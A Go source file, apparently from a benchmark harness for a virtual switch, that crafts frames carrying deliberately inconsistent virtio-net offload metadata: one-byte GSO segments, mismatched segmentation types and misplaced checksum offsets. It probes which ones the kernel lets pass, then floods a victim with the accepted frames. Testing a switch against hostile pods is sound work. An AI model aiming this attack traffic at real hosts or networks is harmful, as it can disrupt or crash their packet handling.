package bench

import (
	"encoding/binary"
	"errors"

	"golang.org/x/sys/unix"

	"tapyard/switch/wire"
)

// lie is offload metadata that don't fit the frame behind them.
type lie struct {
	name string
	tcp  bool // the frame is TCP, else UDP
	head wire.VirtioNetFields
}

// l4At is where the transport header of our IPv4 frames starts.
const l4At = wire.EthernetLen + wire.IPv4MinLen

// lies are what root in a pod can write before a frame on a packet socket. The kernel checks some of it, by
// version differently, so that an attacker tries which ones pass.
var lies = []lie{
	{"a datagram for each byte", false, wire.VirtioNetFields{Flags: wire.NeedsCsum, GSOType: wire.GSOUDPL4,
		HdrLen: l4At + wire.UDPLen, GSOSize: 1, CsumStart: l4At, CsumOffset: wire.UDPChecksumOffset}},
	{"a TCP segment for each byte", true, wire.VirtioNetFields{Flags: wire.NeedsCsum, GSOType: wire.GSOTCPv4,
		HdrLen: l4At + wire.TCPMinLen, GSOSize: 1, CsumStart: l4At, CsumOffset: wire.TCPChecksumOffset}},
	{"TCP segmentation of UDP", false, wire.VirtioNetFields{Flags: wire.NeedsCsum, GSOType: wire.GSOTCPv4,
		HdrLen: l4At + wire.TCPMinLen, GSOSize: 100, CsumStart: l4At, CsumOffset: wire.TCPChecksumOffset}},
	{"IPv6 segmentation of IPv4", true, wire.VirtioNetFields{Flags: wire.NeedsCsum, GSOType: wire.GSOTCPv6,
		HdrLen: l4At + wire.TCPMinLen, GSOSize: 100, CsumStart: l4At, CsumOffset: wire.TCPChecksumOffset}},
	{"a checksum over the destination's address", true, wire.VirtioNetFields{Flags: wire.NeedsCsum, CsumStart: wire.EthernetLen, CsumOffset: 16}},
	{"a checksum over the ports", false, wire.VirtioNetFields{Flags: wire.NeedsCsum, CsumStart: l4At}},
	{"a checksum of the Ethernet header", false, wire.VirtioNetFields{Flags: wire.NeedsCsum}},
}

// gso sends frames to the victim whose offload metadata lie, those lies that this kernel lets pass.
func (c *crafter) gso() func([]byte) int {
	var passing [][]byte
	for _, l := range lies {
		b := c.lie(l)
		if err := unix.Send(c.fd, b, 0); err == nil || errors.Is(err, unix.ENOBUFS) {
			passing = append(passing, b)
		}
	}
	if len(passing) == 0 {
		c.err = errors.New("the kernel lets none of the attack's offload metadata pass")
		return nil
	}
	n := 0
	return func(b []byte) int {
		n++
		return copy(b, passing[n%len(passing)])
	}
}

// lie is the frame that the metadata stand before, as long as the pod's MTU allows.
func (c *crafter) lie(l lie) []byte {
	b := make([]byte, attackFrame)
	wire.VirtioNet(b).Encode(&l.head)
	frame := b[wire.VirtioNetLen:]
	c.udp(frame, c.spec.Own.MAC, c.spec.Victim.MAC, c.spec.Own.IP4, c.spec.Victim.IP4)
	if l.tcp {
		ip, tcp := wire.IPv4(frame[wire.EthernetLen:]), frame[l4At:]
		ip[9] = wire.ProtoTCP
		ip.UpdateChecksum()
		tcp[12], tcp[13] = wire.TCPMinLen/4<<4, wire.TCPAck
		copy(tcp[wire.TCPMinLen:], attackMark)
	}
	if start, offset := int(l.head.CsumStart), int(l.head.CsumOffset); start == l4At && offset != 0 {
		sum := wire.Fold(wire.PseudoHeader(frame[wire.EthernetLen:], false, frame[wire.EthernetLen+9], len(frame)-l4At))
		binary.BigEndian.PutUint16(frame[start+offset:], sum)
	}
	return b
}
